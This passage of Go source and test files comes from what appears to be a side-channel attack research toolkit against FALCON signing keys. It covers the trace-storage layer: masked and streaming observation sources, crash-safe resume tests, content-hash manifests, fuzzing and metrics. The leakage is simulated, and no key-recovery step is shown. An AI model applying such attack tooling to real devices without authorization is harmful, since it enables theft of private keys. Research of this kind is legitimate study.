import (
	"sort"

	"falcondown/internal/emleak"
)

// MaskedSource wraps a Source, skipping a pinned set of observation
// indices on every pass — the bridge between the quality gate's suspect
// list and the attack: supervised acquisition writes every observation
// (so resume offsets stay stable) and the attack masks the flagged ones
// out. Like the lenient reader's chunk quarantine, the skip set is fixed
// at construction, so every Iterate sweeps the identical subset in the
// identical order.
type MaskedSource struct {
	inner Source
	skip  map[int]bool
	count int
}

// NewMaskedSource wraps src, hiding the observations at the given corpus
// indices. Out-of-range and duplicate indices are ignored.
func NewMaskedSource(src Source, skip []int) *MaskedSource {
	m := &MaskedSource{inner: src, skip: make(map[int]bool, len(skip))}
	sorted := append([]int(nil), skip...)
	sort.Ints(sorted)
	for _, i := range sorted {
		if i >= 0 && i < src.Count() && !m.skip[i] {
			m.skip[i] = true
		}
	}
	m.count = src.Count() - len(m.skip)
	return m
}

// N implements Source.
func (m *MaskedSource) N() int { return m.inner.N() }

// Count implements Source (observations after masking).
func (m *MaskedSource) Count() int { return m.count }

// Skipped reports how many observations the mask hides.
func (m *MaskedSource) Skipped() int { return len(m.skip) }

// Iterate implements Source.
func (m *MaskedSource) Iterate() (Iterator, error) {
	it, err := m.inner.Iterate()
	if err != nil {
		return nil, err
	}
	return &maskedIterator{inner: it, skip: m.skip}, nil
}

type maskedIterator struct {
	inner Iterator
	skip  map[int]bool
	pos   int
}

func (it *maskedIterator) Next() (emleak.Observation, error) {
	for {
		o, err := it.inner.Next()
		if err != nil {
			return o, err
		}
		i := it.pos
		it.pos++
		if !it.skip[i] {
			return o, nil
		}
	}
}

func (it *maskedIterator) Close() error { return it.inner.Close() }

var _ Source = (*MaskedSource)(nil)
