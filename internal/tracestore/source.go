package tracestore

import (
	"io"

	"falcondown/internal/emleak"
)

// Source is a replayable stream of observations: the attack's view of a
// campaign. Every Iterate call starts a fresh pass over the corpus, and
// concurrent iterators are independent, so multi-pass algorithms (the
// extend-and-prune rounds) and parallel consumers both work against disk
// corpora that never fit in memory.
type Source interface {
	// N returns the ring degree of the campaign's victim.
	N() int
	// Count returns the total number of observations.
	Count() int
	// Iterate starts a fresh sequential pass.
	Iterate() (Iterator, error)
}

// Iterator yields observations in corpus order. Next returns io.EOF after
// the last observation. Iterators are single-goroutine; open one per
// concurrent consumer.
type Iterator interface {
	Next() (emleak.Observation, error)
	Close() error
}

// SliceSource adapts an in-memory []Observation to the Source interface,
// so existing slice-based campaigns flow through the same streaming
// attack paths.
type SliceSource struct {
	n   int
	obs []emleak.Observation
}

// NewSliceSource wraps obs (degree n) as a Source. The slice is not
// copied.
func NewSliceSource(n int, obs []emleak.Observation) *SliceSource {
	return &SliceSource{n: n, obs: obs}
}

// N implements Source.
func (s *SliceSource) N() int { return s.n }

// Count implements Source.
func (s *SliceSource) Count() int { return len(s.obs) }

// Iterate implements Source.
func (s *SliceSource) Iterate() (Iterator, error) {
	return &sliceIterator{obs: s.obs}, nil
}

type sliceIterator struct {
	obs []emleak.Observation
	pos int
}

func (it *sliceIterator) Next() (emleak.Observation, error) {
	if it.pos >= len(it.obs) {
		return emleak.Observation{}, io.EOF
	}
	o := it.obs[it.pos]
	it.pos++
	return o, nil
}

func (it *sliceIterator) Close() error { return nil }

// ReadAll materializes a source into memory — the bridge back to the
// slice-based APIs for corpora known to fit.
func ReadAll(src Source) ([]emleak.Observation, error) {
	it, err := src.Iterate()
	if err != nil {
		return nil, err
	}
	defer it.Close()
	obs := make([]emleak.Observation, 0, src.Count())
	for {
		o, err := it.Next()
		if err == io.EOF {
			return obs, nil
		}
		if err != nil {
			return nil, err
		}
		obs = append(obs, o)
	}
}
