package tracestore

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// testDevice builds the fixture victim (keygen seed 41, device seed 42)
// shared by the fault-tolerance tests.
func testDevice(t *testing.T) *emleak.Device {
	t.Helper()
	priv, _, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		t.Fatal(err)
	}
	return emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 1.5}, 42)
}

// shardBytes concatenates the shard files of a campaign rooted at path.
func shardBytes(t *testing.T, paths []string) []byte {
	t.Helper()
	var all []byte
	for _, p := range paths {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, raw...)
	}
	return all
}

// referenceCampaign acquires the canonical 20-observation campaign
// uninterrupted and returns its concatenated shard bytes.
func referenceCampaign(t *testing.T, dir string, opts Options) ([]byte, []string) {
	t.Helper()
	path := filepath.Join(dir, "traces.fdt2")
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	if err := Acquire(context.Background(), testDevice(t), 99, 20, w, AcquireOptions{Workers: 3}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return shardBytes(t, w.Paths()), w.Paths()
}

func TestSalvageTruncatedShard(t *testing.T) {
	obs := testCampaign(t, 9)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 3})

	// A SIGKILL mid-write leaves the trailer (and possibly index and tail
	// chunk bytes) missing; cut the file mid-third-chunk.
	thirdChunk := headerSize + 2*(chunkHdrSize+3*observationSize(8))
	cut := thirdChunk + chunkHdrSize + observationSize(8)/2
	if err := os.Truncate(path, int64(cut)); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(path); !errors.Is(err, ErrBadFormat) {
		t.Fatalf("truncated shard opened: err = %v", err)
	}

	rep, err := Salvage(path)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Salvaged || rep.Chunks != 2 || rep.Observations != 6 {
		t.Fatalf("salvage report = %+v, want 2 chunks / 6 observations", rep)
	}
	if rep.DroppedBytes != int64(cut)-int64(thirdChunk) {
		t.Fatalf("dropped %d bytes, want %d", rep.DroppedBytes, cut-thirdChunk)
	}

	c, err := Open(path)
	if err != nil {
		t.Fatalf("salvaged shard does not open: %v", err)
	}
	back, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs[:6], back)

	// Salvaging an already-valid shard must be a no-op.
	rep2, err := Salvage(path)
	if err != nil {
		t.Fatal(err)
	}
	if rep2.Salvaged || rep2.Observations != 6 {
		t.Fatalf("re-salvage report = %+v, want untouched", rep2)
	}
}

func TestSalvageRejectsV1(t *testing.T) {
	obs := testCampaign(t, 3)
	var buf bytes.Buffer
	if err := WriteV1(&buf, 8, obs); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "legacy.fdtr")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Salvage(path); err == nil {
		t.Fatal("v1 blob salvaged")
	}
}

// TestResumeByteIdenticalAfterInterrupt cancels an acquisition
// mid-campaign, finalizes with Interrupt, resumes with ResumeWriter, and
// requires the completed corpus to be byte-identical to an uninterrupted
// run — the core determinism guarantee of crash-safe acquisition.
func TestResumeByteIdenticalAfterInterrupt(t *testing.T) {
	opts := Options{ShardObs: 7, ChunkObs: 3}
	want, _ := referenceCampaign(t, t.TempDir(), opts)

	dir := t.TempDir()
	path := filepath.Join(dir, "traces.fdt2")
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	err = Acquire(ctx, testDevice(t), 99, 20, w, AcquireOptions{
		Workers: 3,
		Progress: func(done, total int) {
			if done == 8 {
				cancel()
			}
		},
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled acquisition returned %v", err)
	}
	done, err := w.Interrupt()
	if err != nil {
		t.Fatal(err)
	}
	if done <= 0 || done >= 20 {
		t.Fatalf("interrupt committed %d observations, want a proper prefix", done)
	}

	// Resume and finish.
	w2, resumed, err := ResumeWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	if int64(resumed) != done {
		t.Fatalf("ResumeWriter found %d observations, Interrupt committed %d", resumed, done)
	}
	if err := Acquire(context.Background(), testDevice(t), 99, 20, w2, AcquireOptions{Workers: 2, Start: resumed}); err != nil {
		t.Fatal(err)
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	if got := shardBytes(t, w2.Paths()); !bytes.Equal(want, got) {
		t.Fatal("resumed corpus is not byte-identical to the uninterrupted run")
	}
}

// TestResumeByteIdenticalAfterKill simulates a SIGKILL (torn final shard,
// no Interrupt): the tail of the last shard is cut mid-chunk, ResumeWriter
// salvages it, and the completed corpus is still byte-identical.
func TestResumeByteIdenticalAfterKill(t *testing.T) {
	opts := Options{ShardObs: 7, ChunkObs: 3}
	want, _ := referenceCampaign(t, t.TempDir(), opts)

	dir := t.TempDir()
	path := filepath.Join(dir, "traces.fdt2")
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	// Acquire 10 of 20, then "crash": flush buffers and cut the final
	// shard mid-chunk without writing any footer.
	if err := Acquire(context.Background(), testDevice(t), 99, 10, w, AcquireOptions{Workers: 2}); err != nil {
		t.Fatal(err)
	}
	if err := w.bw.Flush(); err != nil {
		t.Fatal(err)
	}
	last := w.paths[len(w.paths)-1]
	if err := w.f.Close(); err != nil {
		t.Fatal(err)
	}
	st, err := os.Stat(last)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last, st.Size()-7); err != nil { // torn mid-chunk
		t.Fatal(err)
	}

	w2, resumed, err := ResumeWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	if resumed >= 10 || resumed <= 0 {
		t.Fatalf("resumed = %d, want a proper prefix of the 10 acquired", resumed)
	}
	if err := Acquire(context.Background(), testDevice(t), 99, 20, w2, AcquireOptions{Workers: 4, Start: resumed}); err != nil {
		t.Fatal(err)
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	if got := shardBytes(t, w2.Paths()); !bytes.Equal(want, got) {
		t.Fatal("salvaged+resumed corpus is not byte-identical to the uninterrupted run")
	}
}

func TestResumeWriterFreshCampaign(t *testing.T) {
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, done, err := ResumeWriter(path, 8, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if done != 0 {
		t.Fatalf("fresh resume reports %d done", done)
	}
	if err := Acquire(context.Background(), testDevice(t), 99, 3, w, AcquireOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if c.Count() != 3 {
		t.Fatalf("count = %d", c.Count())
	}
}

// TestAcquireCancelNoGoroutineLeak cancels acquisitions at several points
// and checks that no worker goroutines outlive the call.
func TestAcquireCancelNoGoroutineLeak(t *testing.T) {
	before := runtime.NumGoroutine()
	for trigger := 1; trigger <= 9; trigger += 4 {
		path := filepath.Join(t.TempDir(), "traces.fdt2")
		w, err := NewWriter(path, 8, Options{ChunkObs: 2})
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		err = Acquire(ctx, testDevice(t), 99, 50, w, AcquireOptions{
			Workers: 4,
			Progress: func(done, total int) {
				if done == trigger {
					cancel()
				}
			},
		})
		cancel()
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("trigger %d: err = %v, want context.Canceled", trigger, err)
		}
		if _, err := w.Interrupt(); err != nil {
			t.Fatal(err)
		}
	}
	// Workers exit synchronously before Acquire returns (the collector
	// drains until the result channel closes); allow brief scheduler lag
	// before declaring a leak.
	deadline := time.Now().Add(2 * time.Second)
	for {
		if runtime.NumGoroutine() <= before+2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines grew from %d to %d after cancelled acquisitions", before, runtime.NumGoroutine())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// flakyAppender fails a chosen append with a permanent error.
type flakyAppender struct {
	inner  Appender
	failAt int
	count  int
}

func (a *flakyAppender) Append(o emleak.Observation) error {
	i := a.count
	a.count++
	if i == a.failAt {
		return fmt.Errorf("disk full (injected)")
	}
	return a.inner.Append(o)
}

// TestAcquireAppendFailure drives Acquire into a failing writer and
// checks the error surfaces, workers shut down, and the already-committed
// prefix remains salvageable and resumable.
func TestAcquireAppendFailure(t *testing.T) {
	opts := Options{ChunkObs: 3}
	want, _ := referenceCampaign(t, t.TempDir(), opts)

	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, err := NewWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	fa := &flakyAppender{inner: w, failAt: 11}
	err = Acquire(context.Background(), testDevice(t), 99, 20, fa, AcquireOptions{Workers: 3})
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("append failure not surfaced: %v", err)
	}
	if _, err := w.Interrupt(); err != nil {
		t.Fatal(err)
	}

	w2, resumed, err := ResumeWriter(path, 8, opts)
	if err != nil {
		t.Fatal(err)
	}
	if resumed != 9 { // 11 appends attempted, 0..10 ok except #11 → 11 appended, chunked at 3 → 9 durable
		t.Fatalf("resumed = %d, want 9 durable observations", resumed)
	}
	if err := Acquire(context.Background(), testDevice(t), 99, 20, w2, AcquireOptions{Start: resumed}); err != nil {
		t.Fatal(err)
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	if got := shardBytes(t, w2.Paths()); !bytes.Equal(want, got) {
		t.Fatal("corpus resumed after append failure is not byte-identical")
	}
}

// TestOpenLenientQuarantine corrupts one chunk and checks lenient open
// pins it out while every pass sweeps the identical surviving subset.
func TestOpenLenientQuarantine(t *testing.T) {
	obs := testCampaign(t, 9)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 3})

	// Flip a payload bit in the middle chunk.
	secondChunk := headerSize + chunkHdrSize + 3*observationSize(8)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[secondChunk+chunkHdrSize+17] ^= 0x40
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}

	c, health, err := OpenLenient(path)
	if err != nil {
		t.Fatal(err)
	}
	if !health.Degraded() || len(health.Quarantined) != 1 || health.Lost != 3 || health.Healthy != 6 {
		t.Fatalf("health = %+v", health)
	}
	q := health.Quarantined[0]
	if q.Chunk != 1 || q.Observations != 3 {
		t.Fatalf("fault = %+v, want chunk 1 / 3 observations", q)
	}
	if c.Count() != 6 {
		t.Fatalf("lenient count = %d, want 6", c.Count())
	}

	// The surviving subset: observations 0-2 and 6-8, identical on every
	// pass (the multi-pass attack depends on this).
	wantObs := append(append([]emleak.Observation(nil), obs[:3]...), obs[6:]...)
	for pass := 0; pass < 3; pass++ {
		got, err := ReadAll(c)
		if err != nil {
			t.Fatalf("pass %d: %v", pass, err)
		}
		sameObservations(t, wantObs, got)
	}
}

// TestOpenLenientTornShard opens a footer-less (crashed) shard without
// repairing the file on disk.
func TestOpenLenientTornShard(t *testing.T) {
	obs := testCampaign(t, 9)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 3})
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cut := headerSize + 2*(chunkHdrSize+3*observationSize(8)) + 5
	if err := os.Truncate(path, int64(cut)); err != nil {
		t.Fatal(err)
	}

	c, health, err := OpenLenient(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(health.Reconstructed) != 1 {
		t.Fatalf("health = %+v, want one reconstructed shard", health)
	}
	if c.Count() != 6 {
		t.Fatalf("count = %d, want 6", c.Count())
	}
	got, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs[:6], got)

	// The file on disk is untouched (lenient reads never write).
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() != int64(cut) {
		t.Fatalf("lenient open changed the file size: %d -> %d", cut, st.Size())
	}
	_ = raw
}

// TestOpenLenientTruncatedV1 cuts a legacy blob mid-observation and
// checks the lenient path trims to whole observations.
func TestOpenLenientTruncatedV1(t *testing.T) {
	obs := testCampaign(t, 5)
	var buf bytes.Buffer
	if err := WriteV1(&buf, 8, obs); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "legacy.fdtr")
	raw := buf.Bytes()
	cut := len(raw) - observationSize(8) - 11 // drop the last observation and change
	if err := os.WriteFile(path, raw[:cut], 0o644); err != nil {
		t.Fatal(err)
	}

	c, health, err := OpenLenient(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(health.Quarantined) != 1 || health.Quarantined[0].Chunk != -1 {
		t.Fatalf("health = %+v, want one v1 tail fault", health)
	}
	if c.Count() != 3 {
		t.Fatalf("count = %d, want 3 whole observations", c.Count())
	}
	got, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs[:3], got)
}

// TestOpenLenientHealthyCorpus leaves a clean corpus untouched.
func TestOpenLenientHealthyCorpus(t *testing.T) {
	obs := testCampaign(t, 6)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	writeCorpus(t, path, obs, Options{ChunkObs: 4})
	c, health, err := OpenLenient(path)
	if err != nil {
		t.Fatal(err)
	}
	if health.Degraded() || health.Healthy != 6 || health.Lost != 0 {
		t.Fatalf("health = %+v, want healthy", health)
	}
	got, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	sameObservations(t, obs, got)
}

// TestResumeWriterDropsHeaderlessFinalShard covers the harshest SIGKILL
// timing: the writer's shard file was created but the process died before
// the first 1 MiB buffer flush, leaving a zero-byte (or sub-header) file
// on disk. Such a shard holds zero durable observations, so resume must
// discard it and continue from the prior shards — or from scratch — and
// the finished corpus must still be byte-identical to an uninterrupted
// run.
func TestResumeWriterDropsHeaderlessFinalShard(t *testing.T) {
	t.Run("single file", func(t *testing.T) {
		opts := Options{ChunkObs: 3}
		want, _ := referenceCampaign(t, t.TempDir(), opts)

		dir := t.TempDir()
		path := filepath.Join(dir, "traces.fdt2")
		if err := os.WriteFile(path, nil, 0o644); err != nil { // crash before first flush
			t.Fatal(err)
		}
		w, resumed, err := ResumeWriter(path, 8, opts)
		if err != nil {
			t.Fatalf("resume over empty file: %v", err)
		}
		if resumed != 0 {
			t.Fatalf("resumed = %d, want 0", resumed)
		}
		if err := Acquire(context.Background(), testDevice(t), 99, 20, w, AcquireOptions{Workers: 3}); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if got := shardBytes(t, w.Paths()); !bytes.Equal(want, got) {
			t.Fatal("corpus resumed over an empty file differs from the uninterrupted run")
		}
	})

	t.Run("sharded", func(t *testing.T) {
		opts := Options{ShardObs: 7, ChunkObs: 3}
		want, _ := referenceCampaign(t, t.TempDir(), opts)

		dir := t.TempDir()
		path := filepath.Join(dir, "traces.fdt2")
		w, err := NewWriter(path, 8, opts)
		if err != nil {
			t.Fatal(err)
		}
		// Complete shard 0 (7 observations), then emulate a crash that
		// created shard 1 but flushed nothing into it.
		if err := Acquire(context.Background(), testDevice(t), 99, 7, w, AcquireOptions{Workers: 2}); err != nil {
			t.Fatal(err)
		}
		if err := Acquire(context.Background(), testDevice(t), 99, 8, w, AcquireOptions{Start: 7}); err != nil {
			t.Fatal(err)
		}
		w.bw.Flush()
		w.f.Close()
		last := w.paths[len(w.paths)-1]
		if err := os.Truncate(last, 5); err != nil { // sub-header debris
			t.Fatal(err)
		}

		w2, resumed, err := ResumeWriter(path, 8, opts)
		if err != nil {
			t.Fatalf("resume over sub-header shard: %v", err)
		}
		if resumed != 7 {
			t.Fatalf("resumed = %d, want the 7 observations of the complete shard", resumed)
		}
		if err := Acquire(context.Background(), testDevice(t), 99, 20, w2, AcquireOptions{Workers: 4, Start: resumed}); err != nil {
			t.Fatal(err)
		}
		if err := w2.Close(); err != nil {
			t.Fatal(err)
		}
		if got := shardBytes(t, w2.Paths()); !bytes.Equal(want, got) {
			t.Fatal("corpus resumed past a dropped shard differs from the uninterrupted run")
		}
	})
}
