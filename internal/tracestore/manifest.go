package tracestore

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
)

// Content addressing. A distributed fleet only stays byte-identical to a
// serial run if every worker sweeps the same corpus bytes; CRC framing
// catches bits flipped in flight, but a replica regenerated with the
// wrong seed — or silently rewritten — is well-formed and only caught if
// its shape happens to differ. The manifest names a corpus by content:
// one SHA-256 per shard file plus a corpus-level digest over the ordered
// shard digests. Digests are a pure function of the shard bytes — no
// sidecar file, no paths — so a replica at a different root compares
// equal, pre-existing v2 corpora need no migration (Open recomputes),
// and a shard fetched over the wire can be verified before it is
// trusted.

// ShardDigest identifies one shard file by content.
type ShardDigest struct {
	Name   string `json:"name"`   // base file name (informational; not hashed)
	Obs    int    `json:"obs"`    // readable observations
	Bytes  int64  `json:"bytes"`  // file size
	SHA256 string `json:"sha256"` // lowercase hex digest of the whole file
}

// Manifest is the content-addressed description of a corpus: the ordered
// shard digests and a corpus-level digest binding them.
type Manifest struct {
	N      int           `json:"n"`
	Count  int           `json:"count"`
	Shards []ShardDigest `json:"shards"`
	// Digest is SHA-256 over the ordered shard content digests (and only
	// those — not names or sizes), so replicas under different roots or
	// file names compare equal iff their bytes do.
	Digest string `json:"digest"`
}

// manifestDomain separates the corpus-level hash from a plain shard hash.
const manifestDomain = "falcondown/tracestore/manifest/v1\n"

// HashShard digests one shard file by content. It does not validate the
// shard format — pair it with openShard when structure matters.
func HashShard(path string) (ShardDigest, error) {
	f, err := os.Open(path)
	if err != nil {
		return ShardDigest{}, fmt.Errorf("tracestore: %w", err)
	}
	defer f.Close()
	h := sha256.New()
	size, err := io.Copy(h, f)
	if err != nil {
		return ShardDigest{}, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	return ShardDigest{
		Name:   filepath.Base(path),
		Bytes:  size,
		SHA256: hex.EncodeToString(h.Sum(nil)),
	}, nil
}

// manifestDigest folds the ordered shard digests into the corpus digest.
func manifestDigest(shards []ShardDigest) (string, error) {
	h := sha256.New()
	h.Write([]byte(manifestDomain))
	for _, s := range shards {
		raw, err := hex.DecodeString(s.SHA256)
		if err != nil || len(raw) != sha256.Size {
			return "", fmt.Errorf("%w: malformed shard digest %q", ErrBadFormat, s.SHA256)
		}
		h.Write(raw)
	}
	return hex.EncodeToString(h.Sum(nil)), nil
}

// BuildManifest hashes the given shard files (in order) without opening
// them as a corpus. Obs fields are left zero; callers that need them
// should go through (*Corpus).Manifest.
func BuildManifest(paths []string) (*Manifest, error) {
	m := &Manifest{}
	for _, p := range paths {
		d, err := HashShard(p)
		if err != nil {
			return nil, err
		}
		m.Shards = append(m.Shards, d)
	}
	var err error
	m.Digest, err = manifestDigest(m.Shards)
	if err != nil {
		return nil, err
	}
	return m, nil
}

// Manifest returns the corpus's content manifest, hashing every shard
// file on first call and caching the result (the corpus is read-only;
// a replaced file on disk needs a fresh Open to be seen). Safe for
// concurrent use.
func (c *Corpus) Manifest() (*Manifest, error) {
	c.manifestMu.Lock()
	defer c.manifestMu.Unlock()
	if c.manifest != nil || c.manifestErr != nil {
		return c.manifest, c.manifestErr
	}
	m := &Manifest{N: c.n, Count: c.count}
	for _, s := range c.shards {
		d, err := HashShard(s.path)
		if err != nil {
			c.manifestErr = err
			return nil, err
		}
		d.Obs = s.count
		m.Shards = append(m.Shards, d)
	}
	var err error
	if m.Digest, err = manifestDigest(m.Shards); err != nil {
		c.manifestErr = err
		return nil, err
	}
	c.manifest = m
	return m, nil
}

// Manifest returns the content manifest of everything the writer has
// finalized. It is complete only after Close (or Interrupt): the shard
// still open for writing has no digest yet.
func (w *Writer) Manifest() (*Manifest, error) {
	m := &Manifest{N: w.n, Count: int(w.total), Shards: append([]ShardDigest(nil), w.digests...)}
	var err error
	if m.Digest, err = manifestDigest(m.Shards); err != nil {
		return nil, err
	}
	return m, nil
}
