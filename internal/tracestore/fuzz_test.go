package tracestore

import (
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// FuzzOpen feeds mutated shard bytes through the strict and lenient open
// paths and requires: no panics, no infinite loops, and every failure
// wrapping one of the package's typed sentinels (ErrBadFormat or
// ErrChecksum) so callers can classify damage without string matching.
func FuzzOpen(f *testing.F) {
	// Adversarial inputs hit the lenient re-read path constantly; paying
	// the real backoff schedule per corrupt chunk throttles the fuzzer to
	// a crawl, so run it without sleeps.
	lenientBackoff = nil

	// Seed 1: the golden v1 blob.
	if golden, err := os.ReadFile(filepath.Join("testdata", "golden_v1.fdtr")); err == nil {
		f.Add(golden)
	}
	// Seed 2: a small well-formed v2 corpus.
	func() {
		obs := fuzzCampaign(f, 5)
		path := filepath.Join(f.TempDir(), "seed.fdt2")
		w, err := NewWriter(path, 8, Options{ChunkObs: 2})
		if err != nil {
			f.Fatal(err)
		}
		for _, o := range obs {
			if err := w.Append(o); err != nil {
				f.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			f.Fatal(err)
		}
		raw, err := os.ReadFile(path)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw)
	}()
	// Seed 3: structured garbage around the magics.
	f.Add([]byte("FDT2aaaaaaaaaaaaaaaaaaaaaaaaaaaaFDX2"))
	f.Add([]byte("FDTR"))
	f.Add([]byte{})

	f.Fuzz(func(t *testing.T, data []byte) {
		path := filepath.Join(t.TempDir(), "fuzz.fdt2")
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Skip()
		}

		c, err := Open(path)
		if err != nil {
			if !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum) {
				t.Fatalf("Open returned an untyped error: %v", err)
			}
		} else {
			drainFuzz(t, c)
		}

		// The lenient path must be at least as tolerant and equally typed.
		lc, health, err := OpenLenient(path)
		if err != nil {
			if !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum) {
				t.Fatalf("OpenLenient returned an untyped error: %v", err)
			}
			return
		}
		if health.Healthy != lc.Count() {
			t.Fatalf("health reports %d healthy, corpus counts %d", health.Healthy, lc.Count())
		}
		drainFuzz(t, lc)
	})
}

// drainFuzz iterates a fuzz-opened corpus to the end, requiring typed
// errors and bounded output.
func drainFuzz(t *testing.T, c *Corpus) {
	it, err := c.Iterate()
	if err != nil {
		if !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum) {
			t.Fatalf("Iterate returned an untyped error: %v", err)
		}
		return
	}
	defer it.Close()
	n := 0
	for {
		_, err := it.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			if !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum) && !errors.Is(err, ErrTransient) {
				t.Fatalf("Next returned an untyped error: %v", err)
			}
			break
		}
		n++
		if n > c.Count() {
			t.Fatalf("iterator yielded more observations (%d) than the corpus declares (%d)", n, c.Count())
		}
	}
}

// fuzzCampaign regenerates the fixture observations for fuzz seeding
// (mirrors testCampaign but against testing.F).
func fuzzCampaign(f *testing.F, count int) []emleak.Observation {
	f.Helper()
	priv, _, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		f.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 1.5}, 42)
	obs, err := emleak.NewCampaign(dev, 43).Collect(count)
	if err != nil {
		f.Fatal(err)
	}
	return obs
}
