package tracestore

import "falcondown/internal/obs"

// Passive observability taps. Bumped at shard/chunk granularity only —
// never per observation — and nothing here influences what is written
// or decoded, so corpora are byte-identical with obs on or off.
var (
	mShardsWritten = obs.NewCounter("falcon_store_shards_written_total",
		"corpus shards finalized by the writer (fresh or resumed)")
	mShardsSalvaged = obs.NewCounter("falcon_store_shards_salvaged_total",
		"torn shards repaired by salvage (index rebuilt, tail dropped)")
	mBytesWritten = obs.NewCounter("falcon_store_bytes_written_total",
		"corpus payload bytes flushed, including chunk headers")
	mBytesDecoded = obs.NewCounter("falcon_store_bytes_decoded_total",
		"chunk payload bytes read and checksum-verified during sweeps")
	mChunksDecoded = obs.NewCounter("falcon_store_chunks_decoded_total",
		"chunks decoded successfully during sweeps")
	mCRCRejects = obs.NewCounter("falcon_store_crc_rejects_total",
		"chunks rejected on checksum mismatch (strict reads and lenient quarantine)")
)
