package tracestore

import (
	"bufio"
	"encoding/binary"
	"io"
	"path/filepath"
	"runtime"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

// benchObs builds a realistic FALCON-64 campaign once per benchmark run.
func benchObs(b *testing.B, count int) []emleak.Observation {
	b.Helper()
	priv, _, err := falcon.GenerateKey(64, rng.New(5))
	if err != nil {
		b.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 2}, 6)
	obs, err := emleak.NewCampaign(dev, 7).Collect(count)
	if err != nil {
		b.Fatal(err)
	}
	return obs
}

// reflectiveWrite is the seed's serialization loop (per-value binary.Write
// with reflection), kept as the benchmark baseline for the packed path.
func reflectiveWrite(w io.Writer, n int, obs []emleak.Observation) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString(magicV1); err != nil {
		return err
	}
	for _, v := range []uint32{version1, uint32(n), uint32(len(obs))} {
		if err := binary.Write(bw, binary.LittleEndian, v); err != nil {
			return err
		}
	}
	for _, o := range obs {
		for _, z := range o.CFFT {
			if err := binary.Write(bw, binary.LittleEndian, uint64(z.Re)); err != nil {
				return err
